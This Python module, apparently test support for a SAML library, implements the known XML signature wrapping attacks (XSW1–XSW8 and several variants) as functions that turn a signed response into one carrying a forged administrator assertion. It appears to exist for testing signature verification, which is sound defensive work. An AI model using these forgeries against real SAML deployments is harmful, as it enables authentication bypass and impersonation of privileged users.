"""Signature wrapping: the eight known ways to put one's own words beside somebody's signature.

After Somorovsky and others, "On breaking SAML" (2012), and the names that testing tools give them. Each
takes a response that is good and changes it in place; what is evil says ``EVIL``. In 1 and 2 the
response is signed, in the others the assertion.
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Mapping

from lxml import etree

from doorward.identity.saml import names
from doorward.identity.saml.xml import ID, Element, children, everywhere

EVIL = "administrator@example.com"
SIGNATURE = names.signature("Signature")
ASSERTION = names.assertion("Assertion")


def corrupted(element: Element, *, new_id: str) -> Element:
    """``element``, saying what the attacker wants, under its own id or a new one."""
    if new_id:
        element.set(ID, new_id)
    for name in everywhere(element, names.assertion("NameID")):
        name.text = EVIL
    return element


def _copy(element: Element, *, signed: bool) -> Element:
    clone = copy.deepcopy(element)
    clone.tail = None
    if not signed:
        _without_signature(clone)
    return clone


def _without_signature(element: Element) -> Element:
    for signature in children(element, SIGNATURE):
        element.remove(signature)
    return element


def _assertion(root: Element) -> Element:
    return children(root, ASSERTION)[0]


def _signature(element: Element) -> Element:
    return children(element, SIGNATURE)[0]


def xsw1(root: Element, new_id: str) -> None:
    """The response is evil and holds the signature, which holds the response that was signed."""
    original = _copy(root, signed=False)
    corrupted(root, new_id=new_id)
    _signature(root).append(original)


def xsw2(root: Element, new_id: str) -> None:
    """The same, the signed response stands before the signature."""
    original = _copy(root, signed=False)
    corrupted(root, new_id=new_id)
    _signature(root).addprevious(original)


def xsw3(root: Element, new_id: str) -> None:
    """An evil assertion stands before the signed one."""
    original = _assertion(root)
    original.addprevious(corrupted(_copy(original, signed=False), new_id=new_id))


def xsw4(root: Element, new_id: str) -> None:
    """An evil assertion holds the signed one."""
    original = _assertion(root)
    evil = corrupted(_copy(original, signed=False), new_id=new_id)
    root.replace(original, evil)
    evil.append(original)


def xsw5(root: Element, new_id: str) -> None:
    """An evil assertion holds the signature, the one that was signed stands at the end."""
    original = _copy(_assertion(root), signed=False)
    corrupted(_assertion(root), new_id=new_id)
    root.append(original)


def xsw6(root: Element, new_id: str) -> None:
    """An evil assertion holds the signature, which holds the assertion that was signed."""
    evil = _assertion(root)
    original = _copy(evil, signed=False)
    corrupted(evil, new_id=new_id)
    _signature(evil).append(original)


def xsw7(root: Element, new_id: str) -> None:
    """An evil assertion stands in the response's extensions, which may hold anything."""
    extensions = etree.Element(names.protocol("Extensions"))
    extensions.append(corrupted(_copy(_assertion(root), signed=False), new_id=new_id))
    children(root, names.protocol("Status"))[0].addprevious(extensions)


def xsw8(root: Element, new_id: str) -> None:
    """An evil assertion holds the signature, and that an object with the assertion that was signed."""
    evil = _assertion(root)
    original = _copy(evil, signed=False)
    corrupted(evil, new_id=new_id)
    etree.SubElement(_signature(evil), names.signature("Object")).append(original)


def inside_out(root: Element, new_id: str) -> None:
    """The whole signed response stands in another response with an evil assertion."""
    inner = _copy(root, signed=True)
    for child in list(root):
        root.remove(child)
    root.extend([_copy(child, signed=True) for child in inner])
    root.set(ID, "_outer")
    corrupted(_without_signature(_assertion(root)), new_id=new_id)
    root.append(inner)


def stripped(root: Element, new_id: str) -> None:
    """The signatures are gone, and the words are changed."""
    for signature in list(everywhere(root, SIGNATURE)):
        parent = signature.getparent()
        assert parent is not None
        parent.remove(signature)
    corrupted(_assertion(root), new_id=new_id)


def in_subject(root: Element, new_id: str) -> None:
    """An evil assertion holds the signed one as advice, where Core lets assertions stand."""
    original = _assertion(root)
    evil = corrupted(_copy(original, signed=False), new_id=new_id)
    root.replace(original, evil)
    advice = etree.Element(names.assertion("Advice"))
    advice.append(original)
    children(evil, names.assertion("Conditions"))[0].addnext(advice)


def response_signature_moved(root: Element, new_id: str) -> None:
    """The signature over the response is put into an evil assertion."""
    signature = _signature(root)
    corrupted(_assertion(root), new_id=new_id).insert(1, signature)


Attack = Callable[[Element, str], None]

ON_RESPONSES: Mapping[str, Attack] = {
    "xsw1": xsw1,
    "xsw2": xsw2,
    "inside-out": inside_out,
    "stripped": stripped,
    "moved": response_signature_moved,
}
ON_ASSERTIONS: Mapping[str, Attack] = {
    "xsw3": xsw3,
    "xsw4": xsw4,
    "xsw5": xsw5,
    "xsw6": xsw6,
    "xsw7": xsw7,
    "xsw8": xsw8,
    "inside-out": inside_out,
    "stripped": stripped,
    "advice": in_subject,
}
